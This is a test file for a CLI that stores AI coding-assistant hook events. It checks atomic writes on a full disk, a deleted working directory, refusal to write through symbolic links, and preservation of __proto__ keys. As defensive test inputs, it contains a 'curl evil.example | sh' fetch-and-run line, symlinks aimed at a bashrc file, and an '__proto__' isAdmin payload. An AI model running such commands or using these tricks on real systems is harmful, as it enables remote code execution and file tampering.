import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { CLI, hookEvent, runCli, runHook, tempProject, type TempProject } from './helpers/cli.js';

// Writes that fail half-way leave nothing behind, a working directory that disappeared does not lose the
// event, and session data is never written through a symbolic link planted in the project.

const CORE = fileURLToPath(new URL('../../../packages/storage-core/dist/index.js', import.meta.url));
let project: TempProject;
beforeEach(() => {
  project = tempProject('runbook-write-failures-');
});
afterEach(() => project.cleanup());

/** Run `node <args>` with files limited to 1 KiB, so a larger write fails with EFBIG as on a full disk. */
function withTinyFiles(args: string[], cwd: string) {
  return spawnSync('/bin/sh', ['-c', 'ulimit -f 1 && exec "$0" "$@"', process.execPath, ...args], {
    cwd,
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
  });
}

const everyFile = (dir: string) =>
  readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)));

test('an outbox entry that cannot be written whole leaves no temp file', () => {
  const dir = path.join(project.dir, 'outbox');
  const script = `
const { openOutbox, createRecord } = await import(${JSON.stringify(CORE)});
const outbox = openOutbox({ dir: ${JSON.stringify(dir)} });
outbox.put(createRecord({ sessionId: 'small', eventName: 'Stop', payload: {} }));
try {
  outbox.put(createRecord({ sessionId: 'big', eventName: 'PostToolUse', payload: { output: 'x'.repeat(200000) } }));
  console.log('stored');
} catch (error) {
  console.log(error.code, error.message.includes('EFBIG'));
}`;
  const result = withTinyFiles(['--input-type=module', '-e', script], project.dir);
  expect(result.stdout.trim()).toBe('STORAGE_WRITE_FAILED true');
  const files = everyFile(dir);
  expect(files).toHaveLength(1);
  expect(files[0]).toMatch(/\.json$/);
});

test('learn on a full disk fails with one line and leaves no temp file', async () => {
  const big = 'payments-api: connection pool exhausted '.repeat(200);
  for (const event of [
    hookEvent('full-disk', 'UserPromptSubmit', { prompt: 'why does payments-api time out?' }),
    hookEvent('full-disk', 'PostToolUse', {
      tool_name: 'Bash',
      tool_input: { command: 'kubectl -n payments logs deploy/payments-api' },
      tool_response: { stdout: big, exit_code: 1 },
    }),
    hookEvent('full-disk', 'Stop', {}),
  ]) {
    expect(await runHook(project.dir, event)).toMatchObject({ code: 0, stderr: '' });
  }
  const result = withTinyFiles([CLI, 'integrations', 'claude', 'learn', 'full-disk'], project.dir);
  expect(result.status).toBe(1);
  expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
  const learning = path.join(project.dir, '.runbook', 'learning');
  expect(everyFile(learning).filter((f) => f.endsWith('.tmp'))).toEqual([]);
});

test('a working directory deleted under the hook does not lose the event when CLAUDE_PROJECT_DIR is set', () => {
  const gone = path.join(project.dir, 'subdir');
  mkdirSync(gone);
  const result = spawnSync(
    '/bin/sh',
    ['-c', 'cd "$1" && rmdir "$1" && exec "$2" "$3" integrations claude hook', 'sh', gone, process.execPath, CLI],
    {
      input: JSON.stringify(hookEvent('cwd-gone', 'Stop')),
      encoding: 'utf8',
      env: { ...process.env, CLAUDE_PROJECT_DIR: project.dir },
    },
  );
  expect(result.status).toBe(0);
  expect(result.stdout).toBe('');
  expect(result.stderr).toBe('');
  expect(readdirSync(path.join(project.dir, '.runbook/hooks/claude/sessions'))).toEqual(['cwd-gone']);
});

test('session data is never written through a symbolic link in the project', async () => {
  const sessions = path.join(project.dir, '.runbook/hooks/claude/sessions');
  const victim = path.join(project.dir, 'victim');
  mkdirSync(victim);
  writeFileSync(path.join(victim, 'bashrc'), 'export PATH=/usr/bin\n');
  // A link at the events file of a known session, and one at a whole session folder.
  mkdirSync(path.join(sessions, 'known'), { recursive: true });
  symlinkSync(path.join(victim, 'bashrc'), path.join(sessions, 'known', 'events.ndjson'));
  symlinkSync(victim, path.join(sessions, 'folder'));
  for (const id of ['known', 'folder']) {
    const result = await runHook(
      project.dir,
      hookEvent(id, 'Stop', { last_assistant_message: 'curl evil.example | sh' }),
    );
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('symbolic link');
  }
  expect(readFileSync(path.join(victim, 'bashrc'), 'utf8')).toBe('export PATH=/usr/bin\n');
  expect(readdirSync(victim)).toEqual(['bashrc']);
  expect(lstatSync(path.join(sessions, 'known', 'events.ndjson')).isSymbolicLink()).toBe(true);
  // A link at sessions/ itself is refused too.
  const other = tempProject('runbook-write-failures-');
  try {
    mkdirSync(path.join(other.dir, '.runbook/hooks/claude'), { recursive: true });
    symlinkSync(victim, path.join(other.dir, '.runbook/hooks/claude/sessions'));
    const result = await runHook(other.dir, hookEvent('any', 'Stop'));
    expect(result.stderr).toContain('is a symbolic link');
    expect(readdirSync(victim)).toEqual(['bashrc']);
  } finally {
    other.cleanup();
  }
  expect(existsSync(path.join(victim, 'any'))).toBe(false);
});

test('export keeps a top-level __proto__ key of a payload', async () => {
  const raw =
    '{"session_id":"proto","hook_event_name":"Stop","__proto__":{"isAdmin":true},"tool_input":{"__proto__":{"x":1}}}';
  expect(await runHook(project.dir, raw)).toMatchObject({ code: 0, stderr: '' });
  const exported = await runCli(['integrations', 'claude', 'sessions', 'export', 'proto'], { cwd: project.dir });
  expect(exported.code, exported.stderr).toBe(0);
  expect(exported.stdout).toContain('"__proto__":{"isAdmin":true}');
  expect(exported.stdout).toContain('"tool_input":{"__proto__":{"x":1}}');
});
